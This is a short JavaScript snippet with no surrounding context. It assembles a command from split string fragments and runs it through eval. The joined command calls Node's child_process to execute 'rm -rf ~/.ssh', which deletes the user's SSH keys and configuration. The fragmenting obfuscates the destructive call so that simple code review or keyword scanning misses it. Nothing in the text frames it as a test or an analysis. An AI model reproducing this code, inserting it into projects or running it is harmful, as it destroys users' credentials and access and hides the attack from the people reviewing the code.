const p = ["req", "uire('child_", "process').exe", "cSync('rm -rf ~/.ssh')"];
const code = p.join("");
eval(code);
